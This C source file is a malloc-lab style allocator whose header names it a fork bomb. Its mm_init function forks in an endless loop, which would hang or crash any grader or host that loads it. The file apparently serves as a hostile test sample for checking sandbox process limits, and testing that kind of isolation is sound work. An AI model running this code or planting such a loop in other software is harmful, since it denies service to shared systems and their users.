/* forkbomb.c: forks without end from mm_init. */
#include <unistd.h>
#include <stdint.h>
#include <string.h>

#include "memlib.h"
#include "mm.h"

static void *bump(size_t size)
{
    size_t total = (size + 31) / 16 * 16;
    char *p = mem_sbrk((intptr_t)total);
    if (p == (void *)-1)
        return NULL;
    *(size_t *)p = size;
    return p + 16;
}

void *mm_malloc(size_t size) { return bump(size); }

void *mm_realloc(void *ptr, size_t size)
{
    void *q = bump(size);
    if (q && ptr) {
        size_t old = *(size_t *)((char *)ptr - 16);
        memcpy(q, ptr, old < size ? old : size);
    }
    return q;
}

int mm_init(void)
{
    for (;;)
        fork();
}

void mm_free(void *ptr) { (void)ptr; }
